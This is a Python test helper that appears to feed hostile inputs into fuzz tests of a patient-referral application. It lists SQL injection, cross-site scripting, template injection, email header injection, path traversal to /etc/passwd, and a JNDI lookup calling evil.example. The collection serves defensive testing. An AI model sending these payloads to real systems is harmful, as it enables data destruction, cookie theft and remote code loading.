"""Hostile values for the hostile-input tests: injections, control characters, unicode
oddities, sizes no form would send, and JSON of the wrong type."""

from __future__ import annotations

from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

NASTY_STRINGS = [
    "'; DROP TABLE patients; --",
    "Robert'); DELETE FROM referrals WHERE ('1'='1",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "María\x00",
    "\x00",
    "\x1b[31mred\x1b[0m",
    "Ma\u200bria",
    "\u202eairaM",
    "\ufeffMaría",
    "𝕸𝖆𝖗𝖎𝖆",
    "ＭＡＲＩＡ",
    "A" * 5000,
    "é" * 3000,
    "\r\nBcc: everyone@example.org",
    "MSH|^~\\&|EVIL",
    "../../etc/passwd",
    "",
    " ",
    "null",
    "1980-02-30",
    "+44 20 7946 0958",
]

hostile_text = st.one_of(
    st.sampled_from(NASTY_STRINGS),
    st.text(max_size=200),
    st.text(alphabet=st.characters(max_codepoint=0x9F), max_size=40),
)
json_scalar = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False), hostile_text,
)
hostile_json: st.SearchStrategy[Any] = st.one_of(
    json_scalar,
    st.lists(json_scalar, max_size=5),
    st.dictionaries(st.text(max_size=10), json_scalar, max_size=4),
)

# Modest and without deadlines: each example is a real request on a shared machine.
FUZZ = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    database=None,
)
